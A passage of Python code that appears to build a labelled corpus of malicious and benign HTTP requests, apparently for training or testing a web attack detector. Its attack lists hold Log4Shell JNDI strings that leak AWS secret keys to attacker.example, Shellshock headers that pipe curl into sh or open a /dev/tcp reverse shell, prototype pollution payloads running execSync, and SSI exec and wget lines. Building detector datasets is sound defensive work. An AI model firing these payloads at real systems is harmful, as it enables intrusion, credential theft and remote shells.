    "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://attacker.example/o}",
    "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.oob.attacker.example}",
    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//attacker.example/z}",
    "${jndi:${lower:l}${lower:d}${lower:a}${lower:p}://attacker.example/b}",
    "${${upper:j}${upper:n}${upper:d}${upper:i}:ldaps://attacker.example/c}",
    "${jndi:rmi://203.0.113.9:1099/Exploit}",
    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://attacker.example/d}",
    "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://attacker.example/e}",
    "${jndi:ldap://${sys:java.version}.oob.attacker.example/}",
    E("${jndi:ldap://attacker.example/u}", enc="uesc", param="username"),
    E("${jndi:ldap://attacker.example/p}", enc="dbl", placement="path"),
    E("${${::-j}ndi:ldap://attacker.example/q}", placement="json_key"),
]
CTX_LOG4J = C(
    qp=["q", "username", "search", "lang", "ref"],
    jf=["username", "deviceName", "comment", "userAgent", "email"],
    hn=["User-Agent", "X-Api-Version", "Referer", "X-Forwarded-For", "Authorization"],
    ck=["JSESSIONID", "remember_me", "locale"],
    ep=["/", "/api/search", "/login", "/solr/admin/cores", "/websso/SAML2/SSO"],
    pe=["/api/login", "/api/v1/devices", "/api/feedback", "/login"],
    pp=["/api/users/", "/s/", "/help/"],
)

# ---------------- prototype pollution ---------------------------------------------------------
_pp_ejs = "x;process.mainModule.require('child_process').execSync('id');s"
_mp_pp = (
    '--{BND}\r\nContent-Disposition: form-data; name="__proto__[role]"\r\n\r\nadmin\r\n'
    '--{BND}\r\nContent-Disposition: form-data; name="name"\r\n\r\nbob\r\n--{BND}--\r\n'
)
PP = [
    E(
        "__proto__",
        placement="json_key",
        endpoint="/api/v1/profile",
        method="PUT",
        body=json.dumps({"name": "bob", "__proto__": {"isAdmin": True}}),
    ),
    E(
        '"constructor": {"prototype": {"isAdmin": true}}',
        placement="json_key",
        endpoint="/api/settings/merge",
        body=json.dumps({"theme": "dark", "constructor": {"prototype": {"isAdmin": True}}}),
    ),
    E("__proto__[isAdmin]=true", placement="query", endpoint="/api/search", rawq="q=shoes&__proto__%5BisAdmin%5D=true"),
    E(
        "constructor[prototype][polluted]=yes",
        placement="query",
        endpoint="/",
        rawq="constructor%5Bprototype%5D%5Bpolluted%5D=yes",
    ),
    E("a[__proto__][admin]=1", placement="query", endpoint="/api/items", rawq="a%5B__proto__%5D%5Badmin%5D=1"),
    E("__proto__.isAdmin=true", placement="query", endpoint="/app", rawq="__proto__.isAdmin=true"),
    E(
        "__proto__[outputFunctionName]=" + _pp_ejs,
        placement="form",
        endpoint="/api/user/update",
        body="name=bob&__proto__%5BoutputFunctionName%5D=" + q(_pp_ejs),
    ),
    E(
        (
            '{"shell": "/proc/self/exe", '
            "\"argv0\": \"console.log(require('child_process').execSync('id').toString())//\", "
            '"NODE_OPTIONS": "--require /proc/self/cmdline"}'
        ),
        placement="json",
        endpoint="/api/jobs",
        body=json.dumps(
            {
                "job": "report",
                "__proto__": {
                    "shell": "/proc/self/exe",
                    "argv0": "console.log(require('child_process').execSync('id').toString())//",
                    "NODE_OPTIONS": "--require /proc/self/cmdline",
                },
            }
        ),
    ),
    E('{"__proto__":{"polluted":1}}', placement="cookie", cookie="prefs", endpoint="/dashboard"),
    E("__proto__/polluted", placement="path", endpoint="/api/config", wire="__proto__/polluted"),
    E(
        "__proto__",
        placement="json_key",
        endpoint="/api/v1/profile",
        method="PATCH",
        body=dumps_u({"__proto__": {"admin": True}}, set("_")),
    ),
    E("__proto__[role]", placement="multipart", endpoint="/api/register", body=_mp_pp),
    E('{"__proto__":{"debug":true}}', placement="header", header="X-Settings", endpoint="/api/status"),
]

# ---------------- Shellshock -----------------------------------------------------------------
SHOCK = [
    E('() { :;}; /bin/bash -c "curl http://attacker.example/x|sh"', placement="header", header="User-Agent"),
    E("() { :; }; echo Content-Type: text/plain; echo; /usr/bin/id", placement="header", header="Referer"),
    E("() { ignored; }; /bin/cat /etc/passwd", placement="cookie", cookie="session"),
    E("() { :; }; ping -c 3 203.0.113.5", placement="query", param="name"),
    E("() { _; } >_[$($())] { id; }", placement="header", header="X-Forwarded-For"),
    E("() { :;}; /bin/sh -i >& /dev/tcp/10.0.0.5/4444 0>&1", placement="form", param="comment"),
]
CTX_SHOCK = C(
    qp=["name"],
    jf=["comment"],
    hn=["User-Agent"],
    ck=["session"],
    ep=["/cgi-bin/status.cgi", "/cgi-bin/test-cgi", "/cgi-bin/admin.cgi"],
    pe=["/cgi-bin/guestbook.cgi"],
    pp=["/cgi-bin/"],
)

# ---------------- SSI ------------------------------------------------------------------------
SSI = [
    '<!--#exec cmd="id" -->',
    '<!--#include virtual="/etc/passwd" -->',
    '<!--#exec cmd="wget http://attacker.example/s.txt -O /tmp/s"-->',
    '<!--#echo var="DOCUMENT_ROOT" -->',
    '<!--#include file="../../web.config"-->',
    '<!--#config errmsg="x"--><!--#exec cgi="/cgi-bin/evil.cgi"-->',
]
CTX_SSI = C(
    qp=["name", "page", "q"],
    jf=["comment", "signature", "name"],
    hn=["User-Agent", "Referer"],
    ck=["visitor"],
    ep=["/guestbook.shtml", "/index.shtml", "/search.shtml"],
    pe=["/guestbook/sign", "/api/comments", "/feedback.shtml"],
    pp=["/pages/"],
)


def gen_attacks() -> None:
    gen(
        "attack",
        "php_injection",
        PHP,
        ["query", "form", "json", "cookie", "header", "multipart", "path", "json_key"],
        CTX_PHP,
    )
    gen(
        "attack",
        "java_injection",
        JAVA,
        ["query", "json", "header", "form", "cookie", "path", "multipart", "json_key"],
        CTX_JAVA,
    )
    gen(
        "attack",
        "code_injection",
        CODE,
        ["json", "query", "form", "multipart", "cookie", "header", "path", "json_key"],
        CTX_CODE,
    )
    gen(
        "attack",
        "sqli",
        SQLI,
        ["query", "json", "cookie", "header", "path", "form", "json_key", "multipart", "query", "json", "form"],
        CTX_SQLI,
    )
    gen("attack", "rfi", RFI, ["query", "query", "form", "json", "cookie", "path", "multipart", "header"], CTX_RFI)
    gen("attack", "ssrf", SSRF, ["query", "json", "form", "header", "multipart", "cookie", "path", "json"], CTX_SSRF)
    gen(
        "attack", "cmdi", CMDI, ["query", "form", "json", "multipart", "cookie", "header", "path", "json_key"], CTX_CMDI
    )
    gen("attack", "crlf", CRLF, ["query", "path", "cookie", "form", "json", "query", "multipart"], CTX_CRLF)
    gen("attack", "mail_injection", MAIL, ["form", "json", "multipart", "query", "cookie"], CTX_MAIL)
    gen(
        "attack", "ssti", SSTI, ["query", "json", "form", "multipart", "cookie", "header", "path", "json_key"], CTX_SSTI
    )
    gen("attack", "ldapi", LDAP, ["query", "form", "json", "cookie", "header", "path", "multipart"], CTX_LDAP)
    gen("attack", "xss", XSS, ["query", "json", "form", "multipart", "cookie", "header", "path", "json_key"], CTX_XSS)
    gen("attack", "path_traversal", PT, ["query"], CTX_SQLI)
    gen("attack", "nosqli", NOSQL, ["json"], CTX_SQLI)
    gen("attack", "xxe", XXE, ["xml"], CTX_SQLI)
    gen(
        "attack",
        "log4shell",
        LOG4J,
        ["header", "header", "query", "json", "cookie", "form", "header", "multipart", "json_key"],
        CTX_LOG4J,
    )
    gen("attack", "prototype_pollution", PP, ["json"], CTX_SQLI)
    gen("attack", "shell_shock", SHOCK, ["header"], CTX_SHOCK)
    gen("attack", "ssi", SSI, ["query", "form", "json", "header", "multipart", "cookie"], CTX_SSI)


# ==========================================================================
# BENIGN
# ==========================================================================
NAMES = [
    "Jane Doe",
    "Se\u00e1n O'Connor",
    "Zo\u00eb M\u00fcller",
    "Mohammed Al-Farsi",
    "Li Wei",
    "Ana Mar\u00eda Garc\u00eda",
    "D'Arcy Brooks",
    "Chlo\u00e9 Dubois",
    "Bj\u00f6rn \u00c5gren",
    "Priya Natarajan",
    "Tom\u00e1s \u00d3 Murch\u00fa",
    "Kwame Mensah",
]
ADDRS = [
    "221B Baker St, Apt #4",
    "1600 Amphitheatre Pkwy, Bldg #43",
    "Flat 3/2, 14 Union St",
    "PO Box #1207",
    "55 O'Connell Street Upper, Unit #12",
    "742 Evergreen Terrace",
    "Rue de l'\u00c9glise 8",
    "1-2-3 Shibuya, #805",
    "Suite 500 & 501, 10 Main St.",
    "12 Select Ave (rear entrance)",
    "4/17 Drop Bear Rd",
    "Unit #7; Gate code 4411",
]
EMAILS = [
    "jane.doe+shop@example.com",
    "sean.oconnor+newsletter@example.ie",
    "li.wei@example.cn",
    "d'arcy.brooks@example.co.uk",
    "priya+work+urgent@example.org",
    "first.last@sub.example.com",
    "o.murchu+receipts@example.ie",
    "kwame_mensah-99@example.com.gh",
    "admin+alerts@example.io",
]
PHONES = [
    "+1 (555) 010-4477",
    "+44 20 7946 0958",
    "+49 30 901820",
    "555.010.9981",
    "+81-3-1234-5678",
    "(02) 9876 5432 ext. 12",
    "+353 1 555 0199",
    "+1-800-555-0123 #2",
]
DATES = [
    "2024-03-05T14:22:31Z",
    "2024-12-31T23:59:59.999+01:00",
    "2025-01-15",
    "2024-06-01T08:00:00-07:00",
    "2023-11-20T10:15:00.000Z",
]
PRICES = ["$1,299.99", "\u20ac1.299,00", "\u00a349.50", "19.99", "\u00a52,980", "CHF 1'250.00", "-$5.00 (refund)"]


def b_json() -> None:  # noqa: PLR0915  twenty request kinds in one seeded sequence (reordering changes the set)
    cat = "benign_json"
    for k in range(3):
        # 1 order create
        addr = ADDRS[k * 4 % len(ADDRS)]
        obj = {
            "orderId": ruuid(),
            "items": [
                {"sku": f"AB-{1000 + k}", "qty": 2, "price": 19.99},
                {"sku": "CD-77", "qty": 1, "price": 5.0},
            ],
            "shipTo": {"name": NAMES[k], "line1": addr, "city": "London", "postcode": "NW1 6XE"},
            "email": EMAILS[k],
            "createdAt": DATES[k],
        }
        m, p, qs, h, b = build("json", addr, endpoint="/api/v1/orders", body=json.dumps(obj))
        emit("benign", cat, "json", addr, m, p, qs, h, b, hard=("Select" in addr or ";" in addr))
        # 2 profile update
        nm = NAMES[3 + k * 2]
        obj = {"displayName": nm, "bio": "Coffee, code & cycling.", "timezone": "Europe/Dublin"}
        m, p, qs, h, b = build("json", nm, endpoint=f"/api/users/{4100 + k}", method="PUT", body=json.dumps(obj))
        emit("benign", cat, "json", nm, m, p, qs, h, b, hard="'" in nm)
        # 3 contact form with plus email
        em = EMAILS[3 + k]
        m, p, qs, h, b = build(
            "form", em, param="email", endpoint="/newsletter/subscribe", extra={"name": NAMES[6 + k], "consent": "yes"}
        )
        emit("benign", cat, "form", em, m, p, qs, h, b, hard="'" in em)
        # 4 phone
        ph = PHONES[k * 2]
        obj = {"contact": {"phone": ph, "preferred": "sms"}, "marketing": False}
        m, p, qs, h, b = build("json", ph, endpoint="/api/v1/account/contact", method="PATCH", body=json.dumps(obj))
        emit("benign", cat, "json", ph, m, p, qs, h, b)
        # 5 price
        pr = PRICES[k * 2]
        obj = {
            "productId": f"SKU-{k * 137:05d}",
            "displayPrice": pr,
            "currency": ["USD", "EUR", "JPY"][k],
            "discount": {"type": "percent", "value": 15},
        }
        m, p, qs, h, b = build("json", pr, endpoint="/api/admin/prices", method="PUT", body=json.dumps(obj))
        emit("benign", cat, "json", pr, m, p, qs, h, b, hard="'" in pr)
        # 6 date range query
        d1, d2 = DATES[k], DATES[k + 1]
        qs_ = "from={}&to={}&tz={}".format(q(d1), q(d2), q("America/New_York"))
        m, p, qs, h, b = build("query", d1, endpoint="/api/v1/reports/revenue", rawq=qs_)
        emit("benign", cat, "query", d1, m, p, qs, h, b)
        # 7 sort/fields
        srt = ["-created_at,+name", "price desc, rating desc", "updated_at:asc"][k]
        qs_ = "page={}&per_page=50&sort={}&fields={}".format(k + 2, q(srt), q("id,name,price,stock"))
        m, p, qs, h, b = build("query", srt, endpoint="/api/v2/products", rawq=qs_)
        emit("benign", cat, "query", srt, m, p, qs, h, b, hard=k == 1)
        # 8 bracket filters
        fl = [
            "filter[status]=active&filter[created_at][gte]=2024-01-01",
            "where[price][lt]=100&where[tags][]=sale&where[tags][]=new",
            "include[]=author&include[]=comments&page[size]=25&page[number]=3",
        ][k]
        rawq = "&".join("{}={}".format(q(a.split("=", 1)[0]), q(a.split("=", 1)[1])) for a in fl.split("&"))
        m, p, qs, h, b = build("query", fl, endpoint="/api/articles", rawq=rawq)
        emit("benign", cat, "query", fl, m, p, qs, h, b, hard=True)
        # 9 CSV line
        csvl = [
            'id,name,price\n1,"Widget, large",9.99\n2,"Bob\'s ""best"" bolt",0.25',
            'date;amount;note\n2024-01-02;-12.50;"Coffee; snacks"\n2024-01-03;100.00;Salary',
            'email,first,last\njane+test@example.com,Jane,O\'Neil\n"x@example.com",X,"Ex, Jr."',
        ][k]
        obj = {"filename": f"import-{k}.csv", "preview": csvl, "delimiter": [",", ";", ","][k]}
        m, p, qs, h, b = build("json", csvl, endpoint="/api/imports/preview", body=json.dumps(obj))
        emit("benign", cat, "json", csvl, m, p, qs, h, b, hard=True)
        # 10 regex pattern field
        pat = [
            "^[A-Z]{2}\\d{6}$",
            "^(?:[a-z0-9!#$%&'*+/=?^_`{|}~-]+)@example\\.com$",
            "(?i)\\b(order|invoice)\\s*#?\\d+\\b",
        ][k]
        obj = {"field": ["passport", "email", "subject"][k], "pattern": pat, "flags": "u", "message": "Invalid format"}
        m, p, qs, h, b = build("json", pat, endpoint="/api/forms/validators", body=json.dumps(obj))
        emit("benign", cat, "json", pat, m, p, qs, h, b, hard=True)
        # 11 math expression
        ex = ["price * (1 - discount) >= 100 && qty <= 5", "(a + b) / 2 != c || d == 0", "sqrt(x^2 + y^2) < r; r = 10"][
            k
        ]
        obj = {"ruleName": f"rule-{k}", "expression": ex, "enabled": True}
        m, p, qs, h, b = build("json", ex, endpoint="/api/pricing/rules", body=json.dumps(obj))
        emit("benign", cat, "json", ex, m, p, qs, h, b, hard=True)
        # 12 UUID in path
        u = ruuid()
        m, p, qs, h, b = build("path", u, endpoint="/api/v1/orders")
        emit("benign", cat, "path", u, m, p, qs, h, b)
        # 13 ordinary headers
        hv = ["en-US,en;q=0.9,fr-CA;q=0.8,fr;q=0.7", 'W/"5e3b-1a2b3c4d"', "no-cache, no-store, must-revalidate"][k]
        hn = ["Accept-Language", "If-None-Match", "Cache-Control"][k]
        m, p, qs, h, b = build("header", hv, header=hn, endpoint="/api/catalog")
        emit("benign", cat, "header", hv, m, p, qs, h, b)
        # 14 JSON in cookie
        cv = [
            '{"theme":"dark","lang":"en-GB","tz":"Europe/London"}',
            '{"cart":[{"sku":"A1","q":2}],"v":3}',
            '{"consent":{"ads":false,"analytics":true},"ts":"2024-05-01T10:00:00Z"}',
        ][k]
        m, p, qs, h, b = build("cookie", cv, cookie=["prefs", "cart", "cookie_consent"][k], endpoint="/")
        emit("benign", cat, "cookie", cv, m, p, qs, h, b, hard=True)
        # 15 JSON Schema keys
        obj = {
            "$schema": "https://json-schema.org/draft/2020-12/schema",
            "$id": "https://example.com/product.schema.json",
            "title": "Product",
            "type": "object",
            "properties": {"price": {"type": "number", "exclusiveMinimum": 0}},
            "$defs": {"sku": {"type": "string", "pattern": "^[A-Z]{2}-\\d+$"}},
        }
        key = ["$schema", "$id", "$defs"][k]
        m, p, qs, h, b = build("json_key", key, endpoint="/api/schemas", body=json.dumps(obj))
        emit("benign", cat, "json_key", key, m, p, qs, h, b, hard=True)
        # 16 i18n keys
        tk = ["Don't have an account?", "Select all & continue", "Where's my order?"][k]
        obj = {
            tk: ["\u00bfNo tienes cuenta?", "Tout s\u00e9lectionner et continuer", "Wo ist meine Bestellung?"][k],
            "Sign in": ["Iniciar sesi\u00f3n", "Se connecter", "Anmelden"][k],
        }
        m, p, qs, h, b = build(
            "json_key",
            tk,
            endpoint="/api/i18n/{}".format(["es", "fr", "de"][k]),
            method="PUT",
            body=json.dumps(obj, ensure_ascii=False),
        )
        emit("benign", cat, "json_key", tk, m, p, qs, h, b, hard=True)
        # 17 analytics event
        ev = ["checkout_step_2", "video_progress_50%", "search_results_viewed"][k]
        obj = {
            "event": ev,
            "ts": DATES[k],
            "props": {"value": 42.5, "items": 3, "path": "/checkout?step=2"},
            "anonymousId": ruuid(),
        }
        m, p, qs, h, b = build("json", ev, endpoint="/v1/track", body=json.dumps(obj))
        emit("benign", cat, "json", ev, m, p, qs, h, b)
        # 18 cron-ish settings
        cr = ["*/15 * * * *", "0 3 * * 1-5", "@daily"][k]
        obj = {"job": "sync-inventory", "schedule": cr, "timeout": "30m"}
        m, p, qs, h, b = build("json", cr, endpoint="/api/jobs/schedule", method="PUT", body=json.dumps(obj))
        emit("benign", cat, "json", cr, m, p, qs, h, b, hard=True)
        # 19 sort strings that look like SQL
        so = ["created_at desc", "last_name asc, first_name asc", "score DESC NULLS LAST"][k]
        m, p, qs, h, b = build(
            "form",
            so,
            param="order_by",
            endpoint="/admin/users/export",
            extra={"format": "csv", "columns": "id,email,created_at"},
        )
        emit("benign", cat, "form", so, m, p, qs, h, b, hard=True)
        # 20 multipart metadata
        note = [
            "Deliver to rear door; dog is friendly",
            "Gift wrap please -- it's a surprise!",
            "Invoice # must match PO 2024/117",
        ][k]
        m, p, qs, h, b = build(
            "multipart",
            note,
            param="notes",
            endpoint="/api/claims",
            extra={"claimType": "damaged", "orderNo": f"ORD-2024-{311 + k:04d}"},
        )
        emit("benign", cat, "multipart", note, m, p, qs, h, b, hard=k == 1)


PROSE = [
    H("Select the best option from our menu; drop by anytime!"),
    H("We're open 'til 10pm on Fridays -- come union up with friends for happy hour."),
    H("Please update the table where the kids sit; it's wobbly again."),
    "Delete my account? No, I'd rather keep it. Thanks anyway!",
    "Order by Friday and we'll ship it Monday.",
    "It's 5 o'clock somewhere, isn't it?",
    "Tom's \"special\" sauce: 1 part mayo, 1 part ketchup - that's it.",
    H("Select all that apply: (a) or (b), and/or (c)."),
    "Insert tab A into slot B, then drop the cover into place.",
    "The script for the school play is due Tuesday; the cast's really excited.",
    "Where's the exec summary? I can't find it on the shared drive.",
    "Grandma's recipe: let the dough sleep overnight, then bake at 180\u00b0C for 25 min.",
    "She said, \"Don't drop the ball\" - and we didn't.",
    H("Our cat's name is Bobby Tables. Yes, really, like the comic."),
    H("Hi, I'd like to union my two accounts into one; is that possible?"),
    "Echo Park & Silver Lake: we deliver to both neighbourhoods.",
    H("1 = 1 and 2 = 2 were the first things the teacher wrote on the board."),
    "Great product!!! 5/5 would buy again :)",
    "The 'from' and 'to' fields on the transfer form were swapped.",
    "Can you set the alarm for 6am? I'll wake the kids -- they're hopeless.",
    "Don't forget: the meeting's in room 4B, not 4-B.",
    'I ordered the 12" pizza, not the 16". Please refund the difference.',
    H("My username is o'hara_88 and I can't log in after the update."),
    "Price went from $19.99 to $24.99 overnight?! That's a 25% jump.",
    "We had to drop two tables from the reservation because of the rain.",
    "Null and void - that's what the lawyer said about the old contract.",
    "Please don't cancel; I'll pay by the end of the week, promise.",
    "The shell of the old building is all that's left after the fire.",
    "Ping me when you're free, or just call: (555) 010-2231.",
    "Cat, dog & rabbit friendly cottage; sleeps 4.",
    'I love the "where are they now?" segment -- more of that, please!',
    "Alert: the car park on Union St. will be closed Sat & Sun.",
    "The admin team said the form's 'submit' button was greyed out.",
    "Can I exchange size M for L? Order #45821.",
    H("He's the sort of guy who'd say 'or else' and then forget about it."),
    "Java, Python and Ruby are all on the syllabus this term.",
    "Our sandbox in the backyard needs new sand; any suppliers you'd recommend?",
    "I'll be there between 2 and 4 -- if not, leave it with the neighbour at no. 12.",
    "The system is down again; third time this week. Please fix!",
    "Use promo code SAVE-20 at checkout; it's valid until 31/12.",
    "Exec chef Maria's tasting menu: 7 courses, wine pairing optional.",
    "We'll select a winner at random from all entries on 1 June.",
    "Sorry for the wait; the delay was caused by the storm.",
    "Script supervisor needed on set; must be available weekends & evenings.",
    "The union meeting has been moved to Thursday at 6.30pm.",
    "Rock 'n' roll never dies; neither does my 1972 Fender.",
    H("Please describe the issue in < 500 words; attach screenshots if possible."),
    H('The quotes \' and " both appear in my company name: Bob\'s "Best" Bagels.'),
    H("Is it true that 10 > 9 but '10' < '9' when sorted as text?"),
    "Let's drop the formalities -- call me Jim.",
    H("Group by household: one form per family, please; sort by surname."),
    "Having trouble? Reply with 'HELP' or call us 24/7.",
    H("Could you wait for delay notices before you cancel? Thanks."),
    H("Let me know if the -- double dash in my address line breaks anything."),
    "Ich m\u00f6chte meine Bestellung stornieren, bitte. Danke!",
    "\u00bfD\u00f3nde est\u00e1 mi pedido? Lo ped\u00ed hace dos semanas.",
    "Thank you so much \U0001f64f the cake was perfect for our daughter's birthday \U0001f382",
    H("Where there's a will, there's a way; where there isn't, there's 'SELECT * FROM excuses'. :)"),
    H("The sleep study said I need 8h; benchmark for adults is 7-9h."),
    "Just wanted to say the delivery guy was brilliant -- left it in the porch like I asked.",
    H("Could you select a quieter table for us? It's our anniversary."),
    "Your 'Sleep Well' tea is the only thing that works; please restock!",
    H("We're a small union of local farmers selling direct; nothing fancy."),
    "Note to self: update the shared drive where the old invoices are.",
    "Kids loved the treasure hunt -- clues were 'hidden' under each table.",
    "Rated 4/5: the manual's 'Step 3' is confusing; otherwise great.",
    "Tried twice; error says 'please try again later'. Any ideas?",
    "If you order 2 or more, is shipping free? The FAQ isn't clear.",
    H("Drop-off is at the side entrance; select 'Other' if your slot isn't listed."),
    "I'm allergic to nuts & sesame -- is the 'Chef's Special' safe?",
    H("Our team name is 'Null Pointers' for the pub quiz on Thursday."),
    "Happy to help! Let me know when the script is finalised.",
    "Y'all did an amazing job on the wedding cake. 10/10.",
    H("The exam question was: prove that if x = 1 or y = 1, then x*y >= 0 for x, y >= 0."),
]
CTX_PROSE = C(
    qp=["message", "comment", "q", "note"],
    jf=["comment", "body", "message", "review", "description", "notes"],
    hn=["X-Status-Message"],
    ck=["draft_note"],
    ep=["/api/v1/feedback", "/contact", "/share"],
    pe=["/api/v1/comments", "/api/reviews", "/support/tickets", "/api/messages", "/blog/posts/118/comments"],
    pp=["/notes/"],
    xj={"rating": 5, "anonymous": False},
    xf={"csrf_token": "f1e2d3c4b5a69788"},
)

SEARCH = [
    '"new york" pizza -chain',
    "c++ vector erase",
    "rock & roll hall of fame",
    H("O'Reilly books"),
    "price:<50 color:red",
    H('title:"The Lord of the Rings" AND author:tolkien'),
    "50% off shoes",
    "what is 2+2?",
    'site:example.com "annual report" 2023',
    "node.js vs deno",
    H('"select" vs "multiselect" dropdown'),
    "c# async await",
    "tom & jerry",
    H("(red OR blue) AND shirt"),
    "1/2 inch drill bit",
    "caf\u00e9 au lait",
    "#hashtag @mention",
    H('"it\'s complicated"'),
    "best laptop <$1000",
    "AT&T prepaid plans",
    H("how to union two sets in python"),
    H("delete from cart not working"),
    H('sql "order by" multiple columns'),
    "script writing course",
    "drop shipping suppliers",
    H("5'11\" height in cm"),
    "Ben & Jerry's",
    "x^2 + y^2 = r^2",
    "100 | 200 | 300 sizes",
    '"union station" parking',
    H("~/.bashrc aliases"),
    "M&M's 1kg bag",
    "tes* wildcard",
    H("regex [a-z]+@[a-z]+\\.com"),
    "nike air max -kids",
    "\u65e5\u672c \u65c5\u884c",
    "Z\u00fcrich hotels",
    H("1 = 1 proof"),
    H("<3 emoji meaning"),
    "cmd + shift + 4 screenshot",
    H("&& vs || in bash"),
    "ping pong table",
    H("cat /etc/hosts explained"),
    "don't stop believin' lyrics",
    H("where to buy 'select' grade maple"),
    "size 10.5 (wide)",
    H("--no-cache flag docker build"),
    "email@example.com not receiving",
    "$5 lunch ideas",
    H("why does 0.1 + 0.2 != 0.3"),
    "k\u00f8benhavn \u2192 malm\u00f6 train",
    "kids' books 3-5 yrs",
    H('"sleep(5)" python vs time.sleep'),
    "what's the ; key called",
    H("how to exec into a docker container"),
    "iphone 15 case (clear)",
    H('"drop table" meaning in chess'),
    "winter coats size XL",
    H("javascript:void(0) meaning"),
    "how to cook rice",
    H("what does 1=1 mean in logic"),
    "vegan recipes < 30 min",
    "mother's day gifts",
    H("select * from table sql tutorial"),
    "usb-c to hdmi 4k@60hz",
    "bed & breakfast near me",
    H("<div> vs <span>"),
    "1+1=2 proof principia",
    "pay as you go sim",
    H("$HOME vs ~ in bash"),
]
CTX_SEARCH = C(
    qp=["q", "query", "search", "term", "keywords"],
    jf=["query", "q", "searchTerm"],
    hn=["X-Search-Query"],
    ck=["recent_search", "last_q"],
    ep=["/search", "/api/v1/search", "/products/search", "/help/search", "/api/autocomplete"],
    pe=["/api/search", "/api/v2/search/query", "/graph/search"],
    pp=["/search/", "/s/", "/tag/"],
    xq={"page": "1"},
    xj={"page": 1, "size": 20, "facets": ["brand", "price"]},
)

CODE_SNIPPETS = [
    ("python", "def add(a, b):\n    return a + b\n\nprint(add(2, 3))", False),
    ("python", "import os\nprint(os.getcwd())", True),
    ("python", "with open('data.csv') as f:\n    rows = list(csv.reader(f))", False),
    ("python", 'import subprocess\nsubprocess.run(["git", "status"], check=True)', True),
    ("python", 'df = pd.read_sql("SELECT id, total FROM orders WHERE total > %s", conn, params=[100])', True),
    ("python", 'cursor.execute("UPDATE users SET last_login = NOW() WHERE id = %s", (user_id,))', True),
    ("javascript", "const total = items.reduce((s, i) => s + i.price, 0);", False),
    ("javascript", "document.getElementById('app').textContent = 'Hello';", True),
    ("javascript", "fetch('/api/items').then(r => r.json()).then(console.log);", False),
    ("javascript", "// never call eval() on user input; use JSON.parse instead\nconst data = JSON.parse(text);", True),
    ("javascript", "const { exec } = require('child_process'); // see docs: avoid with untrusted input", True),
    ("javascript", "el.innerHTML = DOMPurify.sanitize(html);", True),
    ("sql", "SELECT name, COUNT(*) FROM orders GROUP BY name ORDER BY 2 DESC;", True),
    ("sql", "CREATE TABLE users (id SERIAL PRIMARY KEY, email TEXT UNIQUE NOT NULL);", True),
    ("sql", "UPDATE accounts SET balance = balance - 10 WHERE id = $1;", True),
    ("sql", "SELECT u.id, o.total FROM users u LEFT JOIN orders o ON o.user_id = u.id WHERE o.total IS NULL;", True),
    ("sql", "-- drop the temp table when done\nDROP TABLE IF EXISTS tmp_import;", True),
    ("sql", "SELECT * FROM products WHERE name ILIKE '%' || :term || '%' LIMIT 20;", True),
    ("bash", "tar -czf backup.tar.gz ./data && ls -lh backup.tar.gz", True),
    ("bash", "find . -name '*.log' -mtime +7 -delete", True),
    ("bash", 'grep -rn "TODO" src/ | wc -l', True),
    ("bash", "curl -s https://api.example.com/v1/status | jq .", True),
    ("bash", 'for f in *.png; do convert "$f" "${f%.png}.jpg"; done', True),
    ("bash", 'export PATH="$HOME/.local/bin:$PATH"', True),
    ("go", 'func main() {\n\tfmt.Println("hi")\n}', False),
    ("java", 'List<String> names = new ArrayList<>();\nnames.add("Ada");', False),
    ("java", 'String sql = "SELECT * FROM t WHERE id = ?";\nPreparedStatement ps = conn.prepareStatement(sql);', True),
    ("c", "for (int i = 0; i < n; i++) { sum += a[i]; }", False),
    ("rust", "let v: Vec<i32> = (1..10).collect();", False),
    ("html", "<ul>{% for item in items %}<li>{{ item.name }}</li>{% endfor %}</ul>", True),
    ("jinja", "Hello {{ user.first_name | title }}!", True),
    ("regex", "^\\d{3}-\\d{2}-\\d{4}$", False),
    ("makefile", "build:\n\tgo build -o bin/app ./...", False),
    (
        "dockerfile",
        'FROM python:3.12-slim\nRUN pip install --no-cache-dir -r requirements.txt\nCMD ["python", "app.py"]',
        True,
    ),
    ("yaml", 'steps:\n  - run: npm ci && npm test\n  - run: echo "done"', True),
    ("php", "<?php echo htmlspecialchars($name, ENT_QUOTES, 'UTF-8'); ?>", True),
    ("ruby", "users.each { |u| puts u.name }", False),
    ("powershell", "Get-ChildItem -Recurse | Where-Object { $_.Length -gt 1MB }", True),
    ("typescript", "type User = { id: string; roles: Array<'admin' | 'user'> };", False),
    ("kotlin", "val evens = (1..10).filter { it % 2 == 0 }", False),
    ("css", "a:hover { color: #ff6600; text-decoration: underline; }", False),
    ("python", 'print(f"{name!r} has {len(items)} items")', False),
    ("javascript", "const html = `<p>${escapeHtml(msg)}</p>`;", True),
    ("java", '@Value("${app.timeout:30}") private int timeout;', True),
    (
        "python",
        (
            "@app.route('/users/<int:user_id>')\ndef show(user_id):\n    return render_template('user.html', "
            "user=get(user_id))"
        ),
        True,
    ),
    ("bash", "ssh -L 5432:localhost:5432 user@db.example.com", True),
    ("sql", "INSERT INTO tags (name) VALUES ('o''reilly'), ('rock & roll');", True),
    ("nginx", "location /api/ {\n    proxy_pass http://127.0.0.1:8080/;\n}", True),
    ("python", "numbers = [x ** 2 for x in range(10) if x % 2]", False),
    ("javascript", "window.addEventListener('load', () => init({ debug: false }));", True),
    ("swift", 'let greeting = "Hello, \\(name)!"', False),
    ("r", "df %>% filter(price > 10) %>% summarise(mean = mean(qty))", False),
    ("lua", "for i, v in ipairs(t) do print(i, v) end", False),
    ("bash", "echo $((3 + 4)) && date -u +%Y-%m-%dT%H:%M:%SZ", True),
    ("java", 'Optional.ofNullable(user).map(User::getName).orElse("anon")', False),
    ("python", 're.sub(r"\\s+", " ", text).strip()', False),
    ("javascript", "app.get('/users/:id', async (req, res) => res.json(await db.find(req.params.id)));", True),
    (
        "sql",
        "WITH recent AS (SELECT * FROM events WHERE ts > now() - interval '1 day') SELECT count(*) FROM recent;",
        True,
    ),
    ("bash", 'docker run --rm -v "$PWD":/app -w /app node:20 npm test', True),
    ("python", "from pathlib import Path\nfor p in Path('.').glob('**/*.md'):\n    print(p)", False),
]


def b_code() -> None:
    cat = "benign_code"
    eps = ["/api/snippets", "/api/v1/gists", "/forum/api/posts", "/api/notebooks/cells", "/docs/api/examples"]
    for i, (lang, code, hard) in enumerate(CODE_SNIPPETS):
        mode = i % 5
        ep = eps[i % len(eps)]
